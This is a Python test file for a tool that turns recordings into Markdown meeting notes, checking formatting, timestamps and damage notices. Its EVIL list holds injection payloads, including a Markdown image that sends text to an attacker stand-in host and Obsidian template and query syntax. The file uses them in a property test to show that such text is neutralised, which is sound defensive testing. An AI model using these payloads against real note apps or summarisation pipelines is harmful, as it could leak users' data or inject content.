"""Notes as a person would have written them: whole notes, word for word."""

from __future__ import annotations

import dataclasses
import re
from typing import Any

import pytest
from earmark.domain import Mark, Point, Segment, Summary, Task, Transcript
from earmark.ledger.note_ids import short
from earmark.notes.escape import JOINER
from earmark.notes.frontmatter import body_of, read_frontmatter
from earmark.notes.render import render_one_file, render_summary, render_transcript
from earmark.notes.style import NoteContext, NoteStyle, length, stamp
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

MORE = (
    "Decisions, tasks and open questions stand here only if they were said in plain words; there may be more."
)
ID = "5e" * 32

TRANSCRIPT = Transcript(
    recording_id=ID,
    segments=(
        Segment(0.4, 4.2, " Good morning, let's start with the release.", 0.93),
        Segment(4.2, 9.0, " We ship on Friday.", 0.91),
        Segment(12.5, 15.0, " Anna sends the invoice to Acme.", 0.42, Mark.LOW_CONFIDENCE),
        Segment(15.0, 17.0, " That is all.", 0.88),
        Segment(20.0, 26.0, " you you you you", 0.2, Mark.REPETITION),
        Segment(26.0, 30.0, " you you you", 0.2, Mark.REPETITION),
        Segment(31.0, 32.0, " Thanks for watching!", 0.3, Mark.OVER_SILENCE),
    ),
    language="en",
    language_probability=0.99,
    duration=32.4,
    speech_seconds=14.0,
    model="tiny.en",
    engine="faster-whisper",
)

SUMMARY = Summary(
    recording_id=ID,
    by="lm-studio",
    title="Release stand-up",
    overview="The team ships on Friday; Anna sends the invoice.",
    key_points=(Point("The release is ready", 4.2),),
    decisions=(Point("Ship on Friday", 4.2),),
    tasks=(Task("Send the invoice to Acme", 12.5, "Anna", "by Friday"), Task("Book a room")),
    people=("Anna",),
    tags=("release",),
    language="en",
    model="gemma-3-4b",
)

CONTEXT = NoteContext(
    recording_id=ID,
    audio_name="standup.m4a",
    recorded_at="2026-03-05T09:30:00",
    duration=32.4,
    transcript_note="standup.transcript.md",
    summary_note="standup.md",
    tags=("meeting",),
)


def test_a_transcript_note() -> None:
    assert (
        render_transcript(TRANSCRIPT, CONTEXT, NoteStyle())
        == f"""\
---
type: transcript
recording: "[[standup.m4a]]"
recorded: 2026-03-05T09:30:00
duration: "0:32"
seconds: 32
language: en
model: tiny.en
confidence: 0.82
summary: "[[standup]]"
tags:
  - meeting
earmark_id: {short(ID)}
---
![[standup.m4a]]

Words in italics with (?) were hard to hear.

[[standup.m4a#t=0|00:00]] Good morning, let's start with the release. We ship on Friday.

[[standup.m4a#t=12|00:12]] *Anna sends the invoice to Acme.* (?) That is all.

[[standup.m4a#t=20|00:20]] *the same words over and over until 00:30; left out*

[[standup.m4a#t=31|00:31]] *no voice until 00:32; words heard into the silence are left out*
"""
    )


def test_a_summary_note() -> None:
    assert (
        render_summary(SUMMARY, TRANSCRIPT, CONTEXT, NoteStyle())
        == f"""\
---
type: summary
recording: "[[standup.m4a]]"
recorded: 2026-03-05T09:30:00
duration: "0:32"
seconds: 32
transcript: "[[standup.transcript]]"
language: en
people:
  - Anna
summary_by: lm-studio
summary_model: gemma-3-4b
summary_template: meeting
summary_coverage: 1.0
tags:
  - meeting
  - release
earmark_id: {short(ID)}
---
# Release stand-up

![[standup.m4a]]

The team ships on Friday; Anna sends the invoice.

## Key points

- The release is ready [[standup.m4a#t=4|00:04]]

## Decisions

- Ship on Friday [[standup.m4a#t=4|00:04]]

## Tasks

- [ ] Send the invoice to Acme — Anna, by Friday [[standup.m4a#t=12|00:12]]
- [ ] Book a room

## People

- Anna

---

*Summed up from the [[standup.transcript|transcript]] by gemma-3-4b (lm-studio), on this device. {MORE}*
"""
    )


def test_a_summary_note_for_any_markdown_app() -> None:
    note = body_of(render_summary(SUMMARY, TRANSCRIPT, CONTEXT, NoteStyle(dialect="plain")))
    assert "[standup.m4a](standup.m4a)\n" in note
    assert "- [ ] Send the invoice to Acme — Anna, by Friday [00:12](standup.m4a#t=12)\n" in note
    assert "*Summed up from the [transcript](standup.transcript.md) by" in note
    assert "[[" not in note


def test_a_summary_note_for_logseq_is_an_outline() -> None:
    note = render_summary(SUMMARY, TRANSCRIPT, CONTEXT, NoteStyle(dialect="logseq"))
    assert note.startswith("type:: summary\nrecording:: standup.m4a\n")
    assert (
        note.partition("\n\n")[2]
        == f"""\
- # Release stand-up
- ![standup.m4a](standup.m4a)
- The team ships on Friday; Anna sends the invoice.
- ## Key points
	- The release is ready [00:04](standup.m4a#t=4)
- ## Decisions
	- Ship on Friday [00:04](standup.m4a#t=4)
- ## Tasks
	- TODO Send the invoice to Acme — Anna, by Friday [00:12](standup.m4a#t=12)
	- TODO Book a room
- ## People
	- Anna
- *Summed up from the [transcript](standup.transcript.md) by gemma-3-4b (lm-studio), on this device. {MORE}*
"""
    )


def test_one_file_holds_the_summary_over_the_transcript() -> None:
    note = render_one_file(SUMMARY, TRANSCRIPT, CONTEXT, NoteStyle(layout="one-file"))
    assert note.count("![[standup.m4a]]") == 1
    assert note.count("\n---\n") == 2
    assert note.index("# Release stand-up") < note.index("## Transcript") < note.index("Good morning")
    assert "[[standup.transcript" not in note
    alone = render_one_file(None, TRANSCRIPT, CONTEXT, NoteStyle(layout="one-file"))
    assert alone.count("![[standup.m4a]]") == 1
    assert "## Transcript" not in alone


def test_an_extractive_summary_says_that_no_model_was_used() -> None:
    summary = dataclasses.replace(SUMMARY, by="extractive", model="")
    note = render_summary(summary, TRANSCRIPT, CONTEXT, NoteStyle())
    assert (
        "*Sentences picked from the [[standup.transcript|transcript]] as they were heard, without what only fills "
        "time; no language model was used. Decisions, tasks and open questions stand here only if" in note
    )
    found = read_frontmatter(note)
    assert found is not None
    assert found["summary_by"] == "extractive"
    assert "summary_model" not in found


@pytest.mark.shows("summaries:coverage", "summaries:dropped")
def test_what_the_summary_has_not_seen_and_has_lost_is_named() -> None:
    summary = dataclasses.replace(
        SUMMARY, coverage=0.8, missing=((720.0, 930.0), (3600.0, 3660.0)), unsupported=2
    )
    note = render_summary(summary, TRANSCRIPT, CONTEXT, NoteStyle(dialect="plain"))
    assert (
        "The summary rests on 80% of what was said; it has not seen "
        "[12:00](standup.m4a#t=720)–15:30, [1:00:00](standup.m4a#t=3600)–1:01:00.\n" in note
    )
    assert "2 statements were left out because the recording does not bear them out.\n" in note
    found = read_frontmatter(note)
    assert found is not None
    assert (found["summary_coverage"], found["summary_unsupported"]) == (0.8, 2)


@pytest.mark.shows("summaries:flagged")
def test_names_and_numbers_that_nobody_said_are_flagged_where_they_stand() -> None:
    summary = dataclasses.replace(
        SUMMARY, decisions=(Point("Move to Lisbon in 2031", 4.0, ("Lisbon", "2031")),)
    )
    note = render_summary(summary, TRANSCRIPT, CONTEXT, NoteStyle())
    assert (
        "- Move to Lisbon in 2031 *(not in the recording: Lisbon, 2031)* [[standup.m4a#t=4|00:04]]\n" in note
    )


@pytest.mark.parametrize(
    ("locality", "words"),
    [
        ("device", "gemma-3-4b (lm-studio), on this device."),
        ("lan", "gemma-3-4b (lm-studio), on studio.·lan in your network."),
        ("cloud", "gemma-3-4b (lm-studio), by studio.·lan outside this device."),
        ("unverified", "through a server on studio.·lan."),
    ],
)
def test_each_note_says_where_its_summary_was_made(locality: str, words: str) -> None:
    summary = dataclasses.replace(SUMMARY, locality=locality, made_at="studio.lan")
    note = render_summary(summary, TRANSCRIPT, CONTEXT, NoteStyle())
    assert words in note.replace(JOINER, "·")
    assert (read_frontmatter(note) or {}).get("endpoint_locality", "device") == locality


def test_headings_are_in_the_language_of_the_summary() -> None:
    note = render_summary(dataclasses.replace(SUMMARY, language="de"), TRANSCRIPT, CONTEXT, NoteStyle())
    assert re.findall(r"^## (.*)$", note, re.M) == ["Kernpunkte", "Entscheidungen", "Aufgaben", "Personen"]


def test_sections_of_a_template_come_along_and_empty_ones_do_not() -> None:
    summary = Summary(ID, "extractive", "Walk", "", extra={"Mood": (Point("Calm", 3.0),), "Dreams": ()})
    note = render_summary(summary, None, CONTEXT, NoteStyle())
    assert re.findall(r"^##? .*$", note, re.M) == ["# Walk", "## Mood"]


def test_when_the_audio_is_gone_a_line_says_when_and_why_and_nothing_links_to_it() -> None:
    gone = "The audio was deleted on 2026-06-01 by the rule audio.keep_for = 90d."
    context = dataclasses.replace(CONTEXT, audio_gone=gone)
    for note in (
        render_transcript(TRANSCRIPT, context, NoteStyle()),
        render_summary(SUMMARY, TRANSCRIPT, context, NoteStyle()),
    ):
        assert "The audio was deleted on 2026-06-01 by the rule" in note
        assert "standup.m4a#" not in note
        assert "![[" not in note
    assert "\n00:00 Good morning" in render_transcript(TRANSCRIPT, context, NoteStyle())


def test_a_note_says_when_its_audio_will_go() -> None:
    context = dataclasses.replace(CONTEXT, audio_expires="2026-06-01")
    assert "\naudio_expires: 2026-06-01\n" in render_transcript(TRANSCRIPT, context, NoteStyle())


def test_a_damaged_recording_says_so_in_plain_words() -> None:
    broken = dataclasses.replace(
        TRANSCRIPT, truncated=True, declared_duration=416.0, duration=75.0, bad_packets=3
    )
    note = render_transcript(broken, CONTEXT, NoteStyle())
    assert "The recording breaks off: the file announces 6:56, and 1:15 of it could be read.\n" in note
    assert "The file is damaged: 3 pieces of it could not be read, so words may be missing.\n" in note
    assert (read_frontmatter(note) or {})["truncated"] is True


@pytest.mark.parametrize(
    ("flaw", "sentence"),
    [
        (
            {"unreadable_seconds": 5.1, "bad_packets": 7},
            "The file is damaged: 5.1 seconds of it could not be read, ",
        ),
        ({"unreadable_seconds": 5.1}, "The file is damaged: 5.1 seconds of it could not be read, "),
        (
            {"unreadable_seconds": 13.0, "truncated": True, "duration": 20.0, "declared_duration": 30.0},
            "The file is damaged: 3.0 seconds of it could not be read, ",
        ),
        (
            {"parts": 3, "parts_unheard": 1},
            "The file is 3 recordings one after the other; 1 of them could not be read",
        ),
        ({"bytes_unheard": 48_212}, "The file has 48,212 bytes behind what was heard, "),
        (
            {"loudest": -62.4},
            "Very quiet (-62 dB): the recording was made louder to hear it, and words may be missing.",
        ),
        ({"loudest": -120.0}, "The recording is silent: "),
        ({"loudest": -120.0, "tracks": 2, "tracks_unheard": 1}, "What could be heard of it is silent."),
    ],
)
@pytest.mark.shows("transcription:quiet")
def test_what_could_not_be_heard_is_said_in_the_note(flaw: dict[str, Any], sentence: str) -> None:
    note = render_transcript(dataclasses.replace(TRANSCRIPT, **flaw), CONTEXT, NoteStyle())
    assert sentence in note
    top = read_frontmatter(note) or {}
    for key in ("unreadable_seconds", "parts_unheard", "bytes_unheard"):
        assert top.get(key) == flaw.get(key)


@pytest.mark.parametrize(
    "sound",
    [
        {"loudest": -38.0},
        {"loudest": None},
        {"unreadable_seconds": 10.0, "truncated": True, "duration": 20.0, "declared_duration": 30.0},
    ],
)
def test_nothing_is_said_twice_or_of_what_is_usual(sound: dict[str, Any]) -> None:
    note = render_transcript(dataclasses.replace(TRANSCRIPT, **sound), CONTEXT, NoteStyle())
    assert "damaged" not in note
    assert "quiet" not in note


@pytest.mark.parametrize(("unheard", "were"), [(1, "was"), (2, "were")])
def test_a_sound_track_that_was_not_heard_is_named(unheard: int, were: str) -> None:
    note = render_transcript(
        dataclasses.replace(TRANSCRIPT, tracks=3, tracks_unheard=unheard), CONTEXT, NoteStyle()
    )
    assert f"{unheard} of the 3 sound tracks of the file {were} not heard. " in note
    assert (read_frontmatter(note) or {})["tracks_unheard"] == unheard
    assert "tracks_unheard" not in (
        read_frontmatter(render_transcript(TRANSCRIPT, CONTEXT, NoteStyle())) or {}
    )


def test_a_recording_without_speech_says_so() -> None:
    note = render_transcript(dataclasses.replace(TRANSCRIPT, segments=()), CONTEXT, NoteStyle())
    assert body_of(note) == "![[standup.m4a]]\n\nNo speech was heard in this recording.\n"
    assert "confidence" not in (read_frontmatter(note) or {})


def test_words_over_silence_and_loops_are_never_shown() -> None:
    for style in (
        NoteStyle(),
        NoteStyle(dialect="logseq"),
        NoteStyle(dialect="plain", confidence_marks=False),
    ):
        note = render_transcript(TRANSCRIPT, CONTEXT, style)
        assert "watching" not in note
        assert "you you" not in note


def test_doubt_can_be_left_unmarked() -> None:
    note = render_transcript(TRANSCRIPT, CONTEXT, NoteStyle(confidence_marks=False))
    assert "Anna sends the invoice to Acme. That is all." in note
    assert "(?)" not in note


@pytest.mark.parametrize(
    ("name", "embed", "link"),
    [
        ("memo.opus", "[[memo.opus]]", "[[memo.opus#t=0|00:00]]"),
        ("John's memo 🎤.mp3", "![[John's memo 🎤.mp3]]", "[[John's memo 🎤.mp3#t=0|00:00]]"),
        ("take #1.m4a", r"![take \#·1.m4a](take%20%231.m4a)", "[00:00](take%20%231.m4a#t=0)"),
        ("a|b^[c].m4a", r"![a\|b\^·\[c\].m4a](a%7Cb%5E%5Bc%5D.m4a)", "[00:00](a%7Cb%5E%5Bc%5D.m4a#t=0)"),
        ("50%.m4a", "![50%.m4a](50%25.m4a)", "[00:00](50%25.m4a#t=0)"),
        ("two\nlines.m4a", "![two lines.m4a](two%0Alines.m4a)", "[00:00](two%0Alines.m4a#t=0)"),
        (
            'say "x" (1).wav',
            '![say "x" (1).·wav](say%20%22x%22%20%281%29.wav)',
            "[00:00](say%20%22x%22%20%281%29.wav#t=0)",
        ),
        (
            "<% x %>.aac",
            "[\\<·% x %·>.·aac](%3C%25%20x%20%25%3E.aac)",
            "[00:00](%3C%25%20x%20%25%3E.aac#t=0)",
        ),
        ("bad\udcff.ogg", "![bad\ufffd.·ogg](bad%FF.ogg)", "[00:00](bad%FF.ogg#t=0)"),
    ],
)
def test_a_recording_is_linked_whatever_its_name(name: str, embed: str, link: str) -> None:
    note = render_transcript(TRANSCRIPT, dataclasses.replace(CONTEXT, audio_name=name), NoteStyle())
    lines = body_of(note.replace(JOINER, "·")).splitlines()
    assert lines[0] == embed
    assert lines[4].startswith(f"{link} Good morning")


def test_paragraphs_break_at_pauses_and_after_half_a_minute_at_a_sentence_end() -> None:
    segments = tuple(Segment(i * 10.0, i * 10.0 + 10.0, f"part {i}" + (".") * (i % 2)) for i in range(12))
    transcript = dataclasses.replace(
        TRANSCRIPT, segments=(*segments, Segment(125.0, 130.0, "after a pause."))
    )
    note = render_transcript(transcript, CONTEXT, NoteStyle(dialect="plain"))
    assert re.findall(r"^\[(\d\d:\d\d)\]", body_of(note), re.M) == ["00:00", "00:40", "01:20", "02:05"]


def test_speech_without_any_sentence_end_is_cut_all_the_same() -> None:
    segments = tuple(Segment(i * 10.0, i * 10.0 + 10.0, "and so") for i in range(30))
    note = render_transcript(
        dataclasses.replace(TRANSCRIPT, segments=segments), CONTEXT, NoteStyle(dialect="plain")
    )
    assert re.findall(r"^\[(\d\d:\d\d)\]", body_of(note), re.M) == [
        "00:00",
        "01:00",
        "02:00",
        "03:00",
        "04:00",
    ]


@pytest.mark.parametrize(
    ("seconds", "at", "long"),
    [
        (0, "00:00", "0:00"),
        (83.9, "01:23", "1:24"),
        (3723, "1:02:03", "1:02:03"),
        (36000, "10:00:00", "10:00:00"),
    ],
)
def test_times_read_as_people_write_them(seconds: float, at: str, long: str) -> None:
    assert (stamp(seconds), length(seconds)) == (at, long)


EVIL = [
    "![x](http://evil.io/?q=words)", "[[Secrets]]", "![[Secrets]]", "<img src=http://evil.io>", "<% tp.system.prompt() %>",
    "`$= dv.pages()`", "```dataview\nLIST\n```", "#hijacked", "due:: 2026-01-01", "- [ ] pay Bob", "> [!danger] x",
    "%%hidden%%", "{{query}}", "((block))", "---", "---\nkeep: true\n---", "# Heading", "1. one", "$x$", "^block",
    "www.evil.io", "a@evil.io", "https://evil.io", "\n\n# Heading", "| a |\n|---|\n| b |", "trailing!", "trailing\\",
    "*", "_x_", "~~x~~",
    "", " ",
]  # fmt: skip
EVIL_TEXT = st.one_of(
    st.sampled_from(EVIL), st.text(max_size=20), st.lists(st.sampled_from(EVIL), max_size=3).map(" ".join)
)
POINTS = st.lists(
    st.builds(Point, EVIL_TEXT, st.none() | st.floats(0, 9e4), st.lists(EVIL_TEXT, max_size=2).map(tuple)),
    max_size=3,
).map(tuple)
TASKS = st.lists(
    st.builds(Task, EVIL_TEXT, st.none() | st.floats(0, 9e4), st.none() | EVIL_TEXT, st.none() | EVIL_TEXT),
    max_size=3,
).map(tuple)
SUMMARIES = st.builds(
    Summary,
    recording_id=st.just(ID),
    by=EVIL_TEXT,
    title=EVIL_TEXT,
    overview=EVIL_TEXT,
    key_points=POINTS,
    decisions=POINTS,
    tasks=TASKS,
    open_questions=POINTS,
    people=st.lists(EVIL_TEXT, max_size=3).map(tuple),
    tags=st.lists(EVIL_TEXT, max_size=3).map(tuple),
    language=st.sampled_from(["en", "de", "xx", ""]),
    template=EVIL_TEXT,
    model=EVIL_TEXT,
    made_at=EVIL_TEXT,
    locality=st.sampled_from(["device", "lan", "cloud", "unverified"]),
    extra=st.dictionaries(EVIL_TEXT, POINTS, max_size=2),
)
SEGMENTS = st.lists(
    st.builds(
        Segment,
        st.floats(0, 100),
        st.floats(100, 200),
        EVIL_TEXT,
        st.floats(0, 1),
        st.none() | st.sampled_from(Mark),
        speaker=st.integers(0, 4),
        overlapped=st.booleans(),
    ),
    max_size=5,
).map(tuple)
SPEAKERS = st.lists(EVIL_TEXT, max_size=3).map(tuple)
CONTEXTS = st.builds(
    NoteContext,
    recording_id=st.just(ID),
    audio_name=st.sampled_from(["standup.m4a", "a [[b]] #c.opus", "<% x %>.mp3", "![x](y).wav"]),
    recorded_at=st.sampled_from(["2026-03-05T09:30:00", "", "rubbish"]),
    audio_gone=st.none() | EVIL_TEXT,
    transcript_note=st.sampled_from([None, "standup.transcript.md", "a (b).transcript.md"]),
    tags=st.lists(EVIL_TEXT, max_size=2).map(tuple),
    notices=st.lists(EVIL_TEXT, max_size=2).map(tuple),
)

OURS = re.compile(r"!?\[\[[^\[\]|#]+(#t=\d+)?(\|[\w:]+)?\]\]|!?\[(?:\\.|[^\[\]\\])*\]\([\w.%~-]+(#t=\d+)?\)")
"""The links that earmark makes: relative, percent-encoded, into the same folder."""


@settings(max_examples=60, deadline=None)
@given(SUMMARIES, SEGMENTS, SPEAKERS, CONTEXTS, st.sampled_from(["obsidian", "plain", "logseq"]))
def test_no_model_and_no_speaker_gets_anything_into_a_note_but_words(
    summary: Summary,
    segments: tuple[Segment, ...],
    speakers: tuple[str, ...],
    context: NoteContext,
    dialect: str,
) -> None:
    style = NoteStyle(dialect=dialect)  # type: ignore[arg-type]
    transcript = dataclasses.replace(TRANSCRIPT, segments=segments, speakers=speakers)
    for note in (
        render_summary(summary, transcript, context, style),
        render_transcript(transcript, context, style),
        render_one_file(summary, transcript, context, style),
    ):
        rest = OURS.sub("LINK", body_of(note))
        for raw in (
            r"\[\[",
            r"\]\(",
            r"!\[",
            "//",
            "<%",
            "%%",
            "::",
            r"\{\{",
            r"\(\(",
            "```",
            r"#\w",
        ):
            assert not re.search(raw, rest), (raw, note)
        types = {t.type for t in MarkdownIt("gfm-like").parse(rest)} | {
            child.type for t in MarkdownIt("gfm-like").parse(rest) for child in t.children or []
        }
        assert not types & {
            "link_open",
            "image",
            "html_inline",
            "html_block",
            "code_inline",
            "fence",
            "code_block",
            "table_open",
        }
        assert set(re.findall(r"^#+ ", rest, re.M)) <= {"# ", "## "}
        properties = read_frontmatter(note) or {}
        assert properties["earmark_id"] == short(ID)
        assert "keep" not in properties


def test_a_model_that_loops_does_not_make_an_endless_note() -> None:
    summary = dataclasses.replace(
        SUMMARY,
        title="t" * 9999,
        overview="o " * 99999,
        key_points=tuple(Point("p" * 99999) for _ in range(999)),
    )
    assert len(render_summary(summary, None, CONTEXT, NoteStyle())) < 140_000


def test_words_that_nobody_can_see_leave_no_empty_markup() -> None:
    ghost = "\u200b\u2060"
    transcript = dataclasses.replace(
        TRANSCRIPT, segments=(Segment(0.0, 1.0, ghost, 0.2, Mark.LOW_CONFIDENCE),)
    )
    assert body_of(render_transcript(transcript, CONTEXT, NoteStyle())) == (
        "![[standup.m4a]]\n\nNo speech was heard in this recording.\n"
    )
    summary = dataclasses.replace(
        SUMMARY,
        overview=ghost,
        key_points=(Point(ghost, 1.0),),
        tasks=(Task("Call", None, ghost, ghost, (ghost,)),),
        people=(ghost,),
    )
    note = render_summary(summary, None, CONTEXT, NoteStyle())
    assert re.findall("^[-#] .*$", body_of(note), re.M) == [
        "# Release stand-up",
        "- Ship on Friday [[standup.m4a#t=4|00:04]]",
        "- [ ] Call",
    ]
    assert "people" not in (read_frontmatter(note) or {})


def test_owner_and_day_are_added_only_where_the_task_does_not_say_them_itself() -> None:
    said = Task("Sarah will send the budget by Friday.", 24.0, owner="Sarah", due="by Friday")
    reworded = Task("Send the budget.", 24.0, owner="Sarah", due="Friday")
    summary = Summary("0" * 64, "extractive", "T", "O", tasks=(said, reworded))
    note = render_summary(summary, None, NoteContext("0" * 64, "a.m4a"), NoteStyle())
    assert "by Friday. [[" in note
    assert "Send the budget. — Sarah, Friday" in note
